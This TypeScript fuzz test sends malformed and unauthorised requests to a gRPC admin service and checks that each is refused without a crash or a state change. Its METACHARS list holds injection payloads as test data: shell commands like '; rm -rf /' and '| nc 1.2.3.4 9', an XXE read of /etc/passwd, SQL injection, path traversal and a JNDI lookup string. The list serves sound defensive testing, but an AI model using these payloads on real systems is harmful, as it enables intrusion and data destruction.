// Random and malformed admin requests against a quiet world, with valid
// credentials (and a few without): every request must be refused with the
// code its kind of wrongness calls for, the coordinator must not crash, and
// every KV bucket must hold byte for byte what it held before. Typed
// requests go through the real client (proto-loader); wire-level garbage
// (wrong wire types, truncation, random bytes, a field repeated) through a
// generic client whose serializer passes bytes through.
import * as grpc from '@grpc/grpc-js';
import { adminPackageDefinition } from '../../common/proto.ts';
import { errorMessage } from '../../common/errors.ts';
import { ADMIN_TOKEN, DISABLED, FOREIGN, SOURCE, ZONE, startWorld, type World } from './world.ts';
import type { Violation } from './invariants.ts';
import type { TrialContext, TrialResult } from './trial.ts';
import { MUTATING_METHODS } from '../../coordinator/auth/permissions.ts';

const S = grpc.status;
const SERVICE = 'drydock.admin.v1.Admin';

interface FieldDesc {
  name: string;
  number: number;
  type: string;
  label: string;
}
interface MethodDesc {
  name: string;
  path: string;
  responseStream: boolean;
  fields: FieldDesc[];
}

function methods(): MethodDesc[] {
  const svc = adminPackageDefinition()[SERVICE] as unknown as Record<
    string,
    { path: string; responseStream: boolean; requestType: { type: { field: FieldDesc[] } } }
  >;
  return Object.entries(svc).map(([name, m]) => ({ name, path: m.path, responseStream: m.responseStream, fields: m.requestType.type.field }));
}

const ID_FIELDS = new Set(['host_id', 'zone_id', 'operation_id', 'server_uuid']);
const METACHARS = [
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '| nc 1.2.3.4 9',
  '&& true',
  '<x>&amp;</x>',
  "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>",
  "' OR 1=1 --",
  '../../etc/passwd',
  'a\u0000b',
  'line\nbreak',
  '%s%n%x',
  '${jndi:ldap://x}',
  '*',
  '>',
  'sim-1 ',
  ' sim-1',
  'SIM-1',
];

// ------------------------------------------------------------------ wire bytes

function varint(n: number): number[] {
  const out: number[] = [];
  let v = BigInt(n);
  do {
    let b = Number(v & 0x7fn);
    v >>= 7n;
    if (v > 0n) b |= 0x80;
    out.push(b);
  } while (v > 0n);
  return out;
}
const tag = (field: number, wire: number) => varint((field << 3) | wire);
const lenDelimited = (field: number, bytes: Uint8Array) => [...tag(field, 2), ...varint(bytes.length), ...bytes];
const isStringy = (f: FieldDesc) => f.type === 'TYPE_STRING' || f.type === 'TYPE_BYTES' || f.type === 'TYPE_MESSAGE';

/** Wire-level malformations: [kind, bytes]. */
function rawRequest(m: MethodDesc, r: () => number): [string, Buffer] {
  const f = m.fields.length ? m.fields[Math.floor(r() * m.fields.length)]! : { name: 'x', number: 1, type: 'TYPE_STRING', label: 'LABEL_OPTIONAL' };
  const k = Math.floor(r() * 4);
  if (k === 0) {
    // The field with the other wire type than its declared one.
    const bytes = isStringy(f) ? [...tag(f.number, 0), ...varint(Math.floor(r() * 2 ** 31))] : lenDelimited(f.number, Buffer.from('not a number'));
    return ['wrong-wire-type', Buffer.from(bytes)];
  }
  if (k === 1) {
    const n = 1 + Math.floor(r() * 64);
    return ['random-bytes', Buffer.from(Array.from({ length: n }, () => Math.floor(r() * 256)))];
  }
  if (k === 2) {
    // A length prefix promising more than there is. protobufjs decodes it as the bytes that are
    // there (0x0a e807 'ab' is CreateZone{zone_id: "ab"}), so those bytes are a malformed id: the
    // request must be refused whichever way it is read.
    return ['truncated', Buffer.from([...tag(f.number, 2), ...varint(1000), ...Buffer.from('$(')])];
  }
  // One id field many times over (protobuf keeps the last: an unknown id).
  const idf = m.fields.find((x) => ID_FIELDS.has(x.name) && x.type === 'TYPE_STRING') ?? f;
  const parts: number[] = [];
  // The last copy is malformed, so even CreateZone (where an unknown id is a valid new zone) must refuse it.
  for (let i = 0; i < 200; i++)
    parts.push(...(isStringy(idf) ? lenDelimited(idf.number, Buffer.from(i === 199 ? '$(reboot)' : `x${i}`)) : [...tag(idf.number, 0), ...varint(i)]));
  return ['repeated-field', Buffer.from(parts)];
}

// ------------------------------------------------------------------ typed requests

/** A value for a field that makes the request wrong (never a valid id of something that exists). */
function badValue(f: FieldDesc, r: () => number, kind: string): unknown {
  if (f.label === 'LABEL_REPEATED') return Array.from({ length: 1 + Math.floor(r() * 3) }, () => badValue({ ...f, label: 'LABEL_OPTIONAL' }, r, kind));
  switch (f.type) {
    case 'TYPE_STRING':
      if (kind === 'huge-string') return 'A'.repeat(64 * 1024 + Math.floor(r() * 1024 * 1024));
      if (kind === 'metachar') return METACHARS[Math.floor(r() * METACHARS.length)]!;
      if (f.name === 'zone_id' && kind === 'wrong-values') return '';
      return `no-such-${Math.floor(r() * 1e9).toString(36)}`;
    case 'TYPE_BOOL':
      return r() < 0.5;
    case 'TYPE_DOUBLE':
    case 'TYPE_FLOAT':
      return [NaN, -1, 1e308, Infinity, 0][Math.floor(r() * 5)];
    case 'TYPE_ENUM':
      return 99;
    case 'TYPE_MESSAGE':
      return {};
    default:
      return [0, 4294967295, 2 ** 31][Math.floor(r() * 3)];
  }
}

interface Case {
  kind: string;
  method: MethodDesc;
  req?: object;
  raw?: Buffer;
  auth: 'token' | 'none' | 'bad';
  /** Codes that are right for this case. */
  expect: number[];
}

/** Valid calls that the world's state must refuse (nothing is in maintenance, nothing runs). */
function wrongState(ms: Map<string, MethodDesc>, r: () => number): Case {
  const options: [string, object, number[]][] = [
    ['DisableMaintenance', { host_id: SOURCE }, [S.FAILED_PRECONDITION]],
    ['ReturnServers', { host_id: SOURCE }, [S.FAILED_PRECONDITION, S.NOT_FOUND]],
    ['EnableMaintenance', { host_id: SOURCE, confirm: false }, [S.INVALID_ARGUMENT]],
    ['EnableMaintenance', { host_id: FOREIGN, confirm: false }, [S.INVALID_ARGUMENT]],
    ['CreateZone', { zone_id: ZONE, name: 'again', cpu_mode: 'CPU_MODE_DEFAULT' }, [S.ALREADY_EXISTS]],
    ['UpdateHost', { host_id: SOURCE, zone_id: 'no-such-zone' }, [S.NOT_FOUND, S.INVALID_ARGUMENT, S.FAILED_PRECONDITION]],
    ['CancelOperation', { operation_id: 'op-00000000-00000000' }, [S.NOT_FOUND, S.INVALID_ARGUMENT]],
    ['UpdateZone', { zone_id: ZONE, policy: { settle_pause_s: 5 } }, [S.INVALID_ARGUMENT]],
    ['UpdateZone', { zone_id: ZONE, policy: { cpu_overcommit_ratio: -1 } }, [S.INVALID_ARGUMENT]],
    ['DisableMaintenance', { host_id: DISABLED }, [S.FAILED_PRECONDITION]],
  ];
  const [name, req, expect] = options[Math.floor(r() * options.length)]!;
  return { kind: 'wrong-state', method: ms.get(name)!, req, auth: 'token', expect };
}

function makeCase(all: MethodDesc[], ms: Map<string, MethodDesc>, r: () => number): Case {
  const x = r();
  const m = all[Math.floor(r() * all.length)]!;
  if (x < 0.03)
    return {
      kind: r() < 0.5 ? 'no-credentials' : 'bad-token',
      method: m,
      req: {},
      auth: r() < 0.5 ? 'none' : 'bad',
      expect: [S.UNAUTHENTICATED, S.RESOURCE_EXHAUSTED],
    };
  if (x < 0.2) return wrongState(ms, r);
  if (x < 0.45) {
    const [kind, raw] = rawRequest(m, r);
    // Bytes that do not decode are refused before any handler, INVALID_ARGUMENT (common/grpc-decode.ts; never
    // grpc-js's INTERNAL); a repeated id decodes to an unknown one.
    const expect = kind === 'repeated-field' ? [S.NOT_FOUND, S.INVALID_ARGUMENT, S.OK] : [S.INVALID_ARGUMENT, S.NOT_FOUND, S.OK];
    return { kind, method: m, raw, auth: 'token', expect: MUTATING_METHODS.has(m.name) ? expect.filter((c) => c !== S.OK) : expect };
  }
  // CreateZone with an unknown (well-formed) id is a valid call: only malformed ids for it.
  const kinds = m.name === 'CreateZone' ? ['metachar', 'huge-string'] : ['unknown-id', 'metachar', 'huge-string', 'wrong-values'];
  const kind = kinds[Math.floor(r() * kinds.length)]!;
  const req: Record<string, unknown> = {};
  for (const f of m.fields) if (r() < 0.7 || ID_FIELDS.has(f.name)) req[f.name] = badValue(f, r, kind);
  // A mutating call must be refused: its target never exists (ids are unknown or malformed).
  const expect = MUTATING_METHODS.has(m.name)
    ? [S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED, S.FAILED_PRECONDITION]
    : [S.OK, S.INVALID_ARGUMENT, S.NOT_FOUND, S.RESOURCE_EXHAUSTED];
  return { kind, method: m, req, auth: 'token', expect };
}

// ------------------------------------------------------------------ KV snapshot

/** Every key of every KV bucket with its revision and value bytes. */
async function kvSnapshot(w: World): Promise<Map<string, string>> {
  const nc = await w.nats.connect();
  try {
    const jsm = await nc.jetstreamManager();
    const js = nc.jetstream();
    const out = new Map<string, string>();
    for await (const si of jsm.streams.list()) {
      const name = si.config.name;
      if (!name.startsWith('KV_')) continue;
      const bucket = name.slice(3);
      const kv = await js.views.kv(bucket);
      // Every key first: a get inside the keys() iteration stalls its consumer and cuts the listing short.
      const keys: string[] = [];
      for await (const key of await kv.keys()) keys.push(key);
      for (const key of keys) {
        const e = await kv.get(key);
        if (e) out.set(`${bucket}/${key}`, `${e.revision}:${e.operation}:${Buffer.from(e.value).toString('base64')}`);
      }
    }
    return out;
  } finally {
    await nc.close();
  }
}

/** Which top-level fields of a JSON record changed (or that it appeared/vanished). */
function describeChange(a: string | undefined, b: string | undefined): string {
  if (!a || !b) return `${a ? 'present' : 'absent'} → ${b ? 'present' : 'absent'}`;
  const parse = (x: string) => {
    try {
      return JSON.parse(Buffer.from(x.split(':')[2] ?? '', 'base64').toString('utf8')) as Record<string, unknown>;
    } catch {
      return {};
    }
  };
  const [pa, pb] = [parse(a), parse(b)];
  const fields = [...new Set([...Object.keys(pa), ...Object.keys(pb)])].filter((k) => JSON.stringify(pa[k]) !== JSON.stringify(pb[k]));
  return `revision ${a.split(':')[0]} → ${b.split(':')[0]}, fields ${fields.map((f) => `${f}: ${JSON.stringify(pa[f])?.slice(0, 120)} → ${JSON.stringify(pb[f])?.slice(0, 120)}`).join('; ')}`;
}

function diff(a: Map<string, string>, b: Map<string, string>): string[] {
  const keys = new Set([...a.keys(), ...b.keys()]);
  return [...keys].filter((k) => a.get(k) !== b.get(k)).sort();
}

/**
 * A snapshot once the world is quiet: the zone CPU watch writes each zone's
 * membership a few seconds after hosts join, so wait until two snapshots 4 s
 * apart differ only in the leader lease (renewed all the time).
 */
async function quiet(w: World): Promise<Map<string, string>> {
  let prev = await kvSnapshot(w);
  for (let i = 0; i < 10; i++) {
    await new Promise((r) => setTimeout(r, 4000));
    const next = await kvSnapshot(w);
    if (diff(prev, next).every((k) => k === 'drydock_leader/lease')) return next;
    prev = next;
  }
  throw new Error('the world never became quiet (KV kept changing without requests)');
}

// ------------------------------------------------------------------ run

export async function runAdminFuzz(ctx: TrialContext): Promise<TrialResult> {
  const t0 = Date.now();
  const w = await startWorld({ servers: 6, targets: 2, random: ctx.random });
  const coordinator = w.coordinators[0]!;
  const all = methods();
  const ms = new Map(all.map((m) => [m.name, m]));
  const rawClient = new (grpc.makeGenericClientConstructor(
    Object.fromEntries(
      all.map((m) => [
        m.name,
        {
          path: m.path,
          requestStream: false,
          responseStream: m.responseStream,
          requestSerialize: (b: Buffer) => b,
          requestDeserialize: (b: Buffer) => b,
          responseSerialize: (b: Buffer) => b,
          responseDeserialize: (b: Buffer) => b,
        },
      ]),
    ),
    'RawAdmin',
  ))(`127.0.0.1:${coordinator.proc.port}`, grpc.credentials.createInsecure(), { 'grpc.max_send_message_length': -1 }) as unknown as grpc.Client &
    Record<string, Function>;
  try {
    // Quiet: no drain, nothing pending; agents keep heartbeating. Keys that change on their own in a quiet
    // minute would make the comparison lie, so the baseline is taken twice and such keys are named.
    const before = await quiet(w);
    const violations: Violation[] = [];
    const codes = new Map<string, number>();
    const wrong = new Map<string, number>();
    const metadata = (c: Case) => {
      const md = new grpc.Metadata();
      if (c.auth === 'token') md.set('authorization', `Bearer ${ADMIN_TOKEN}`);
      if (c.auth === 'bad') md.set('authorization', `Bearer wrong-${Math.floor(ctx.random() * 1e9)}`);
      return md;
    };
    const send = (c: Case): Promise<number> =>
      new Promise((resolve) => {
        const opts = { deadline: new Date(Date.now() + 20_000) };
        const done = (err: grpc.ServiceError | null) => resolve(err ? err.code : S.OK);
        const client = c.raw ? rawClient : coordinator.client.client;
        const fn = client[c.method.name]!;
        const payload = c.raw ?? c.req;
        if (c.method.responseStream) {
          // A watch that is accepted streams until its deadline: a short one, and OK on data.
          const s = fn.call(client, payload, metadata(c), { deadline: new Date(Date.now() + 1000) }) as grpc.ClientReadableStream<unknown>;
          let got = false;
          s.on('data', () => {
            got = true;
            s.cancel();
          });
          s.on('error', (err: grpc.ServiceError) => resolve(got || err.code === S.CANCELLED || err.code === S.DEADLINE_EXCEEDED ? S.OK : err.code));
          s.on('end', () => resolve(S.OK));
        } else {
          fn.call(client, payload, metadata(c), opts, done);
        }
      });
    const cases = Array.from({ length: ctx.requests }, () => makeCase(all, ms, ctx.random));
    let next = 0;
    const worker = async () => {
      while (next < cases.length) {
        const i = next++;
        const c = cases[i]!;
        if (i % 500 === 0) ctx.log(`admin-fuzz: request ${i}/${cases.length}`);
        const code = await send(c);
        const key = `${c.kind} → ${grpc.status[code] ?? code}`;
        codes.set(key, (codes.get(key) ?? 0) + 1);
        if (!c.expect.includes(code)) {
          const k = `${c.kind} ${c.method.name} → ${grpc.status[code] ?? code}`;
          if (!wrong.has(k))
            violations.push({
              invariant: 'wrong-code',
              detail: `${c.kind} ${c.method.name}(${c.raw ? `0x${c.raw.subarray(0, 24).toString('hex')}` : JSON.stringify(c.req).slice(0, 160)}) answered ${grpc.status[code] ?? code}, expected one of ${c.expect.map((e) => grpc.status[e]).join('/')}`,
            });
          wrong.set(k, (wrong.get(k) ?? 0) + 1);
        }
      }
    };
    await Promise.all(Array.from({ length: 8 }, worker));
    const alive =
      !coordinator.proc.exited &&
      (await coordinator.call('ListHosts', {}).then(
        () => true,
        () => false,
      ));
    if (!alive) violations.push({ invariant: 'crash', detail: `the coordinator ${coordinator.proc.exited ? 'exited' : 'stopped answering'} during the fuzz` });
    const after = await kvSnapshot(w);
    const changed = diff(before, after);
    // A key that also changes with no request at all is the agents' doing, not the fuzz's: look again after a quiet pause.
    const quietA = await kvSnapshot(w);
    await new Promise((r) => setTimeout(r, 3000));
    const quietB = await kvSnapshot(w);
    const noisy = new Set(diff(quietA, quietB));
    const caused = changed.filter((k) => !noisy.has(k));
    for (const k of caused) violations.push({ invariant: 'state-changed', detail: `KV ${k} changed: ${describeChange(before.get(k), after.get(k))}` });
    const top = [...codes.entries()].sort((a, b) => b[1] - a[1]).map(([k, n]) => `${k}: ${n}`);
    const notes = [
      `${ctx.requests} requests over ${all.length} methods; ${before.size} KV keys compared, ${caused.length} changed by the fuzz${noisy.size ? `, ${noisy.size} changing on their own in a quiet world excluded (${[...noisy].slice(0, 5).join(', ')})` : ''}`,
      `codes: ${top.join(', ')}`,
      ...(wrong.size ? [`wrong codes: ${[...wrong.entries()].map(([k, n]) => `${k} ×${n}`).join(', ')}`] : []),
    ];
    const internal = [...codes.entries()].filter(([k]) => k.endsWith('→ INTERNAL')).reduce((a, [, n]) => a + n, 0);
    const findings = [
      'a truncated request (a length prefix of 1000 followed by 2 bytes) is not refused: protobufjs (under @grpc/proto-loader) decodes the field as the bytes present, so `0a e807 6162` is CreateZone{zone_id: "ab"} and created zone "ab" in an earlier version of this fuzz. No privilege is gained (the caller could send that call well-formed), but a damaged message is not told apart from a valid one; the fuzz now sends truncated malformed ids, which are refused.',
    ];
    if (internal)
      findings.push(
        `${internal} undecodable request(s) (random bytes, truncated or wrong wire types) were answered INTERNAL: grpc-js refuses bytes it cannot deserialize before any handler runs, with INTERNAL rather than INVALID_ARGUMENT. Nothing changed and the coordinator kept serving; the code is grpc-js's.`,
      );
    return { outcome: alive ? 'clean' : 'crashed', violations, lost: 0, recoveryMs: null, durationMs: Date.now() - t0, notes, findings };
  } catch (err) {
    throw new Error(`admin fuzz: ${errorMessage(err)}`);
  } finally {
    rawClient.close();
    await w.close();
  }
}
